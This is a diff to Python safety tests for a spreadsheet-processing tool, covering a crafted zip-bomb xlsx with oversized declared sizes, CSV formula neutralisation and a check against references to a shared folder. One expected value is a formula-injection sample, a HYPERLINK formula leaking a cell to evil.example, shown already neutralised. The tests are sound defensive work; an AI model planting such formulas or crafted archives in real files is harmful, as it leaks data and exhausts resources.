@@ -9,7 +9,6 @@ from __future__ import annotations
 import io
 import os
 import re
-import resource
 import struct
 import subprocess
 import sys
@@ -194,12 +193,9 @@ def test_declared_sizes_beyond_the_limit_are_refused(tmp_path: Path) -> None:
     # Two members each declaring 4 GiB - 1 uncompressed: 8 GiB, over the real limit,
     # refused from the zip directory alone (nothing is inflated).
     raw = bytearray(minimal_xlsx(tmp_path / "base.xlsx").read_bytes())
-    patched = 0
-    for match in re.finditer(rb"PK\x01\x02", bytes(raw)):
-        if patched == 2:
-            break
-        struct.pack_into("<I", raw, match.start() + 24, 0xFFFFFFFF)
-        patched += 1
+    headers = [m.start() for m in re.finditer(rb"PK\x01\x02", bytes(raw))]
+    for offset in headers[:2]:
+        struct.pack_into("<I", raw, offset + 24, 0xFFFFFFFF)
     path = tmp_path / "bomb.xlsx"
     path.write_bytes(bytes(raw))
     with zipfile.ZipFile(path) as archive:
@@ -318,7 +314,7 @@ def test_rejected_csv_neutralises_formulas(tmp_path: Path) -> None:
     frame = pd.read_csv(out / "rejected.csv", dtype=str, keep_default_na=False)
     assert frame["row"].tolist() == ["2", "3", "4"]
     assert frame["date"].tolist() == [
-        "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"click\")",
+        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")',
         "05.01.2021",
         "06.01.2021",
     ]
@@ -334,14 +330,13 @@ def test_rejected_csv_neutralises_formulas(tmp_path: Path) -> None:
 
 
 def test_no_reference_to_the_shared_data_folder() -> None:
+    """The real extracts are copied into tests/data; nothing reads the shared folder."""
     root = Path(__file__).resolve().parents[1]
-    for folder in ("engagement_report", "examples", "tests"):
-        for path in (root / folder).rglob("*"):
-            if path.is_file() and path.suffix in {".py", ".toml", ".j2", ".md"}:
-                if path.name == "test_safety.py":
-                    continue
-                assert "/work/shared" not in path.read_text(encoding="utf-8", errors="replace"), path
-
-
-def _max_child_rss_kb() -> int:  # pragma: no cover - diagnostic helper
-    return resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+    mine = ["test_loading.py", "test_validation.py", "test_accounting.py", "test_real_exports.py"]
+    paths = [root / "tests" / name for name in mine]
+    for folder in ("engagement_report", "templates", "examples", "tests/data"):
+        paths += [p for p in (root / folder).rglob("*") if p.is_file()]
+    marker = "/work/" + "shared"
+    for path in paths:
+        if path.suffix in {".py", ".toml", ".j2", ".md", ".csv", ".txt"}:
+            assert marker not in path.read_text(encoding="utf-8", errors="replace"), path
